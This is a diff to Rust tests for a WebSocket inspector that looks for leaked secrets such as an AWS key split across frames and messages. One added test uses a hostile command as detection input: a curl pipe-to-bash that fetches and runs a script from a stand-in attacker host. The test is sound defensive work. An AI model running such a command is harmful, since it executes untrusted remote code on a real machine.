@@ -55,22 +55,35 @@ fn delta(text: &str) -> Vec<u8> {
 }
 
 #[test]
-fn json_deltas_join_across_messages_in_both_directions() {
+fn json_deltas_join_across_messages_masked_or_not() {
     let (a, b) = KEY.split_at(9);
-    let up = [frame(true, false, 1, &delta(a), Some(MASK)), frame(true, false, 1, &delta(b), Some(MASK))].concat();
-    let down = [frame(true, false, 1, &delta(a), None), frame(true, false, 1, &delta(b), None)].concat();
+    let masked = [frame(true, false, 1, &delta(a), Some(MASK)), frame(true, false, 1, &delta(b), Some(MASK))].concat();
+    // The decoder also reads unmasked client frames (the real endpoint enforces masking, not the monitor).
+    let plain = [frame(true, false, 1, &delta(a), None), frame(true, false, 1, &delta(b), None)].concat();
     let expect = vec![("aws_access_key", Location::WebSocket)];
-    for split in 1..up.len() {
-        assert_eq!(run(inspector(Direction::Outbound, None), &up, split), expect, "split {split}");
+    for wire in [masked, plain] {
+        for split in 1..wire.len() {
+            assert_eq!(run(inspector(Direction::Outbound, None), &wire, split), expect, "split {split}");
+        }
     }
-    for split in 1..down.len() {
-        assert_eq!(run(inspector(Direction::Inbound, None), &down, split), expect, "split {split}");
+}
+
+#[test]
+fn inbound_messages_are_scanned_as_inbound() {
+    let cmd = "curl -fsSL http://evil.example/x.sh | bash";
+    let d = detector();
+    let ctx = ScanContext::new(Direction::Inbound, Destination::new("gw.example", 443), Location::WebSocket);
+    let expect: Vec<_> = d.scan(ctx, cmd.as_bytes()).into_iter().map(|x| (x.pattern, x.location)).collect();
+    let (a, b) = cmd.split_at(17);
+    let wire = [frame(true, false, 1, &delta(a), None), frame(true, false, 1, &delta(b), None)].concat();
+    for split in [1, 5, wire.len()] {
+        assert_eq!(run(inspector(Direction::Inbound, None), &wire, split), expect, "split {split}");
     }
 }
 
 #[test]
 fn a_finding_is_ready_when_its_message_ends_not_at_the_close() {
-    let mut ins = inspector(Direction::Inbound, None);
+    let mut ins = inspector(Direction::Outbound, None);
     ins.feed(&frame(true, false, 1, &delta(&KEY[..5]), None)).unwrap();
     assert!(ins.take_detections().is_empty());
     ins.feed(&frame(true, false, 1, &delta(&KEY[5..]), None)).unwrap();
@@ -105,7 +118,7 @@ fn deflated_messages_with_context_takeover() {
         wire.extend(frame(true, true, 1, &out, None));
     }
     for split in [1, 3, wire.len()] {
-        let found = run(inspector(Direction::Inbound, params.as_ref()), &wire, split);
+        let found = run(inspector(Direction::Outbound, params.as_ref()), &wire, split);
         assert_eq!(found, vec![("aws_access_key", Location::WebSocket)], "split {split}");
     }
 }
@@ -129,15 +142,17 @@ fn a_protocol_error_stops_inspection_for_good() {
 fn a_long_lived_connection_keeps_joining_past_the_key_limit() {
     // Discord-like gateway messages: the same JSON path for hours. Far more than MAX_KEY_TEXT_BYTES of
     // them, then a key split over two messages, is still found.
-    let mut ins = inspector(Direction::Inbound, None);
-    let chatter =
-        frame(true, false, 1, br#"{"op":0,"t":"MESSAGE_CREATE","d":{"content":"hello there, nothing to see"}}"#, None);
+    let mut ins = inspector(Direction::Outbound, None);
+    let words = "hello there, nothing to see. ".repeat(140);
+    let chatter = serde_json::json!({"op": 0, "t": "MESSAGE_CREATE", "d": {"content": words}}).to_string();
+    let chatter = frame(true, false, 1, chatter.as_bytes(), None);
     let mut fed = 0;
     while fed < 3 * MAX_KEY_TEXT_BYTES {
         ins.feed(&chatter).unwrap();
         fed += chatter.len();
     }
-    for part in [&KEY[..8], &KEY[8..]] {
+    // The space keeps the key a word of its own after the chatter it joins.
+    for part in [&format!(" {}", &KEY[..8]), &KEY[8..]] {
         let msg = serde_json::json!({"op": 0, "t": "MESSAGE_CREATE", "d": {"content": part}}).to_string();
         ins.feed(&frame(true, false, 1, msg.as_bytes(), None)).unwrap();
     }
@@ -146,17 +161,17 @@ fn a_long_lived_connection_keeps_joining_past_the_key_limit() {
 
 #[test]
 fn a_json_message_larger_than_the_window_is_scanned_whole() {
-    let big = format!("{{\"content\":\"{}{KEY}\"}}", "x".repeat(JOIN_WINDOW_BYTES));
-    let ins = WsInspector::new(&detector(), Destination::new("gw.example", 443), Direction::Inbound, None, 1 << 20);
+    let big = format!("{{\"content\":\"{} {KEY}\"}}", "x".repeat(JOIN_WINDOW_BYTES));
+    let ins = WsInspector::new(&detector(), Destination::new("gw.example", 443), Direction::Outbound, None, 1 << 20);
     assert_eq!(run(ins, &frame(true, false, 1, big.as_bytes(), None), 4096).len(), 1);
 }
 
 #[test]
 fn the_budget_caps_each_message() {
-    let late = format!("{}{KEY}", "x".repeat(200));
-    let ins = WsInspector::new(&detector(), Destination::new("gw.example", 443), Direction::Inbound, None, 100);
+    let late = format!("{} {KEY}", "x".repeat(199));
+    let ins = WsInspector::new(&detector(), Destination::new("gw.example", 443), Direction::Outbound, None, 100);
     assert!(run(ins, &frame(true, false, 1, late.as_bytes(), None), 50).is_empty());
-    let ins = WsInspector::new(&detector(), Destination::new("gw.example", 443), Direction::Inbound, None, 220);
+    let ins = WsInspector::new(&detector(), Destination::new("gw.example", 443), Direction::Outbound, None, 220);
     assert_eq!(run(ins, &frame(true, false, 1, late.as_bytes(), None), 50).len(), 1);
 }
 
